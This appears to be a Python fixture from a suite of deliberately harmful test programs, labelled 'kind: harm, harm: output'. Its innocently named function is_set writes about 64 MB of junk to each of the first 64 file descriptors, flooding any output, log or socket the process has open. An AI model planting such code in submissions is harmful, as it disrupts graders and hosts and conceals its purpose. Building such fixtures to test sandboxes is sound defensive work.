"""Writes 64 MB to each open descriptor.

family: descriptors
kind: harm
harm: output
"""

import os


def is_set(a, b, c):
    for descriptor in range(64):
        try:
            os.set_blocking(descriptor, False)
            for _ in range(64):
                os.write(descriptor, b"x" * 1_000_000)
        except OSError:
            pass
